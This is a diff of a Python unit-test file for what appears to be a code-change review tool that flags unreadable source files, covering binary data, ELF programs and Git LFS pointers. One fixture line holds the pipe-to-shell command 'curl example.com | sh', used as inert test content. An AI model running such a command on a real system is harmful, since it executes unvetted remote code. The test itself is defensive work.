@@ -18,6 +18,7 @@ from tests.rows import each
 from tests.unit.planning.samples import change, changed
 
 RULES = Settings()
+POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 50000\n" % (b"5d" * 32)
 
 
 def reason_for(path: str, body: bytes = b"+x\n", *, binary: bool = False, rules: Settings = RULES) -> str | None:
@@ -140,12 +141,8 @@ def test_a_minified_file_is_a_gap_unless_it_is_generated_vendored_or_accepted() 
     ("path", "content", "reason"),
     [
         ("install.sh", b"curl example.com | sh\n" + bytes(range(256)) * 9, "binary"),
-        ("app.py", b"\x7fELF" + bytes(range(256)) * 9, "compiled program"),
-        (
-            "app.py",
-            b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 9\n",
-            "LFS pointer",
-        ),
+        ("app.py", b"\x7fELF" + bytes(range(256)) * 9, "program"),
+        ("app.py", POINTER, "LFS pointer"),
     ],
 )
 def test_an_unread_source_file_is_a_gap_in_a_trusted_change(path: str, content: bytes, reason: str) -> None:
@@ -169,15 +166,12 @@ def test_what_a_user_excludes_is_no_gap() -> None:
         assert skip.is_gap is is_gap
 
 
-POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 50000\n" % (b"5d" * 32)
-
-
 def test_only_what_git_lfs_takes_for_a_pointer_is_left_out() -> None:
-    # A pointer is left out and a gap when the change is not trusted.
-    for path in ("model.dat", "data.json", "payload.py"):
+    # A pointer is skipped; it is a gap if the change is not trusted, or if the file is named like source code.
+    for path, is_source in (("model.dat", False), ("data.json", True), ("payload.py", True)):
         for trusted in (True, False):
             skip = skip_of(path, POINTER, Settings(untrusted=not trusted))
-            assert (skip and skip.reason, skip and skip.is_gap) == (SkipReason.LFS_POINTER, not trusted)
+            assert (skip and skip.reason, skip and skip.is_gap) == (SkipReason.LFS_POINTER, is_source or not trusted)
     # What git lfs takes for a pointer is one.
     older = POINTER.replace(b"git-lfs", b"hawser")
     for content in (POINTER[:-1], POINTER + b"\n\n", POINTER.replace(b"\n", b"\r\n"), older):
